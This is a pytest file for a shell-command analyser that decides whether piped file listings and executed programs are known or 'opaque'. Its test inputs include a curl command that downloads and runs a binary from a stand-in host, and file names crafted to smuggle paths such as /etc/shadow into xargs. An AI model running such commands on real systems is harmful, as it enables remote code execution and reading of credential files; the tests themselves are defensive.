"""Names of files that one program lists and another takes: known where every one is a plain word."""

import pytest

from bailiwick.analysis.shell import ShellContext, analyze_shell
from bailiwick.analysis.shell.listing import listing
from bailiwick.model.glob import Glob

PLAIN = ("/w/src/a.ts", "/w/src/b.ts", "/w/.env", "/w/README.md")


class Files:
    """Files without links."""

    def __init__(self, *paths: str) -> None:
        self._paths = paths

    def real(self, path: str) -> str:
        """Where it stands."""
        return path

    def expand(self, pattern: str) -> tuple[str, ...]:
        """What matches."""
        return tuple(path for path in self._paths if Glob(pattern).matches(path))


def lines(command: str, *paths: str) -> list[str]:
    """What a command does where these files stand."""
    context = ShellContext(cwd="/w", home="/home/u", project="/w", files=Files(*paths))
    return listing(analyze_shell(command, context), "/w")


@pytest.mark.parametrize(
    ("command", "reads"),
    [
        ("find src -name '*.ts' | xargs wc -l", "read src/**/*.ts"),
        ("find . -type f | sort | head -5 | xargs cat", "read **"),
        ("grep -rl x src | grep -v b | xargs grep -n y", "read src/**"),
        ("find src -name '*.ts' | xargs -I{} cat {}", "read src/**/*.ts"),
    ],
)
def test_plain_names_are_known(command: str, reads: str) -> None:
    found = lines(command, *PLAIN)
    assert reads in found
    assert "opaque" not in found


@pytest.mark.parametrize("name", ["a b.ts", "-x.ts", "it's.ts", "a\nb.ts", "back\\slash.ts"])
def test_one_name_that_is_not_plain_makes_all_unknown(name: str) -> None:
    assert "opaque" in lines("find . -type f | xargs wc -l", *PLAIN, f"/w/{name}")


@pytest.mark.parametrize(
    "command",
    [
        "find . | xargs -0 wc",  # one word, ends of lines and all
        "find . -print0 | xargs wc",
        "find . | sed s/a/b/ | xargs wc",
        "find . -printf '%p x\\n' | xargs wc",
        "find . | xargs -d x wc",
        "grep -rn x src | xargs wc",  # more than names
        "grep -rlZ x src | xargs wc",
        "git ls-files | xargs cat",  # its index holds names that are not on the disk: `x /etc/shadow`
        "wc -l $(git ls-files '*.ts')",
        "touch 'a /etc/x'; find . | xargs wc",
        'find . | xargs -n1 sh -c \'mkdir -p "a /etc"; cat "$0"\'',
        "cp -r /tmp/x .; find . | xargs wc",
        "make; find . | xargs wc",
    ],
)
def test_what_may_be_other_words_stays_unknown(command: str) -> None:
    assert "opaque" in lines(command, *PLAIN)


def test_without_files_to_look_at_nothing_is_known() -> None:
    context = ShellContext(cwd="/w", home="/home/u", project="/w")
    assert "opaque" in listing(analyze_shell("find . | xargs wc -l", context), "/w")


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("gcc -o /tmp/t a.c && /tmp/t", "run t (project code)"),
        ("PYTHONPATH=src:. python3 -c 'print(1)'", "run python3 (project code)"),
        ("env NODE_PATH=lib node -e 'console.log(1)'", "run node (project code)"),
        ("java -cp target/classes Main", "run java Main (project code)"),
    ],
)
def test_what_comes_from_the_project_is_its_code(command: str, line: str) -> None:
    found = lines(command)
    assert line in found
    assert "opaque" not in found
    assert not any(one.startswith("set ") for one in found)


@pytest.mark.parametrize(
    "command",
    [
        "gcc -o /tmp/t /tmp/a.c && /tmp/t",
        "curl -so /tmp/t http://e.example && /tmp/t",
        "gcc -o /tmp/t a.c; cp /tmp/x /tmp/t; /tmp/t",
        "curl -so a.c http://e.example && gcc -o /tmp/t a.c && /tmp/t",
        "java -cp /tmp Main",
    ],
)
def test_what_comes_from_elsewhere_is_not(command: str) -> None:
    assert "opaque" in lines(command)


def test_a_search_path_that_leads_out_is_told() -> None:
    assert "set PYTHONPATH" in lines("PYTHONPATH=src:/tmp python3 -c 'print(1)'")
